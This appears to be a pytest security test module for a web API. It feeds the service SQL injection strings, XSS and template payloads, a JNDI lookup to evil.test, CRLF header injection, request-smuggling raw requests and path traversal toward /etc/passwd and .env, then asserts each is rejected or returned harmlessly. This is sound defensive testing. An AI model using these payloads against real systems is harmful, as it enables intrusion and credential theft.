"""Text that wants to be more than text: SQL, headers, paths, NUL."""

import re

import pytest

from tests.attacks.site import Person, Site
from tests.support.http import submission

SQL = [
    "' or '1'='1",
    "admin'--",
    "'; drop table ledger.events; --",
    '" or ""="',
    "') union select password_hash from work.credentials --",
    "$1; select pg_sleep(10)",
    "\\'; truncate work.people; --",
]
MARKUP = ["<script>alert(1)</script>", "{{7*7}}", "${jndi:ldap://evil.test/a}", "%(now)s", "\u202etxt.exe"]


@pytest.mark.parametrize("text", SQL)
def test_sql_logs_nobody_in_and_names_nobody(site: Site, admin: Person, text: str) -> None:
    assert site.try_login(text, text).status_code == 401
    assert site.try_login("admin", text).status_code in {401, 429}
    assert site.ask("GET", "/api/decisions/x", by=admin, params={"id": text}).status_code == 404
    assert site.ask("GET", "/api/decisions/pending", by=admin, params={"priority": text}).status_code == 422
    assert site.ask("GET", "/api/decisions/pending", by=admin, params={"limit": text}).status_code == 422
    assert site.ask("GET", "/api/decisions/pending", by=admin, params={"cursor": text}).status_code in {
        200,
        422,
    }
    assert site.ask("GET", "/api/auth/me", by=admin).json()["username"] == "admin"


@pytest.mark.parametrize("text", [*SQL, *MARKUP])
def test_free_text_comes_back_as_it_was_and_as_nothing_else(site: Site, admin: Person, text: str) -> None:
    fields = {"threat_level": text, "forensic_summary": text, "iocs": [text], "attributed_actor": text}
    name = site.submit(admin, **fields)

    answer = site.ask("GET", f"/api/decisions/{name}", by=admin)

    assert {field: answer.json()[field] for field in fields} == fields
    assert answer.headers["content-type"] == "application/json"
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert "default-src 'none'" in answer.headers["content-security-policy"]


@pytest.mark.parametrize("header", ["X-Request-ID", "Idempotency-Key", "If-Match", "traceparent", "Origin"])
@pytest.mark.parametrize("value", ["a%0d%0aSet-Cookie: x=1", "a\tb", "x" * 5_000, "a; Set-Cookie: x=1"])
def test_a_header_sent_makes_no_header_of_the_answer(
    site: Site, admin: Person, header: str, value: str
) -> None:
    answer = site.ask(
        "POST",
        "/api/decisions/nothing/decide",
        by=admin,
        headers={header: value},
        json={"decision_id": "nothing"},
    )

    assert answer.status_code in {404, 409, 412, 422}
    assert "set-cookie" not in answer.headers
    assert not any("\r" in told or "\n" in told for told in answer.headers.values())


def test_line_breaks_in_what_is_stored_make_no_header(site: Site, admin: Person) -> None:
    body = submission("one\r\nSet-Cookie: x=1")

    assert site.post("/api/decisions/submit", body, by=admin).status_code == 422


@pytest.mark.parametrize(
    "head",
    [
        b"GET /health HTTP/1.1\r\nHost: a\r\nX-Request-ID: a\r\n b\r\nConnection: close\r\n\r\n",
        b"GET /health HTTP/1.1\r\nHost: a\r\nX-Bad\x00: a\r\nConnection: close\r\n\r\n",
        b"GET /health HTTP/9.9\r\nHost: a\r\nConnection: close\r\n\r\n",
        (
            b"POST /api/auth/login HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\nContent-Length: 6\r\n"
            b"Connection: close\r\n\r\nabcdef"
        ),
        (
            b"POST /api/auth/login HTTP/1.1\r\nHost: a\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n"
            b"Connection: close\r\n\r\n0\r\n\r\n"
        ),
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
    ],
    ids=["folded", "nul", "version", "two-lengths", "length-and-chunked", "tls"],
)
def test_what_is_no_clean_http_is_answered_once_and_never_as_two_requests(site: Site, head: bytes) -> None:
    answer = site.raw(head)

    assert len(re.findall(rb"HTTP/1\.1 \d{3} ", answer)) <= 1
    assert not answer.startswith(b"HTTP/1.1 500")


@pytest.mark.parametrize(
    "path",
    [
        "/api/decisions/../../health/database",
        "/api/decisions/%2e%2e/%2e%2e/health/database",
        "/api/docs/..%2f..%2f..%2fetc/passwd",
        "/api/docs/%2e%2e%2f%2e%2e%2fsettings.py",
        "/api/docs/....//....//etc/passwd",
        "/api/docs/%c0%ae%c0%ae/etc/passwd",
        "//evil.test/api/status",
        "/api//status",
        "/api/status/",
        "/API/STATUS",
        "/api/status;jsessionid=1",
        "/api/status%00",
        "/api/decisions/%00",
        "/api/decisions/a%00b",
        "/api/decisions/%ff",
        "/.env",
        "/.git/config",
    ],
)
def test_no_trick_of_a_path_leads_anywhere_without_a_token(site: Site, path: str) -> None:
    where = site.services[0].url.removeprefix("http://")
    answer = site.raw(f"GET {path} HTTP/1.1\r\nHost: {where}\r\nConnection: close\r\n\r\n".encode("latin-1"))

    assert answer.split(b" ", 2)[1] in {b"400", b"401", b"404", b"422"}, answer
    assert b"root:" not in answer


@pytest.mark.parametrize("host", ["evil.test", "evil.test:80@127.0.0.1", "a b", ""])
def test_a_forged_host_is_nowhere_in_the_answer(site: Site, host: str) -> None:
    answer = site.raw(f"GET /openapi.json HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())

    assert b"evil.test" not in answer
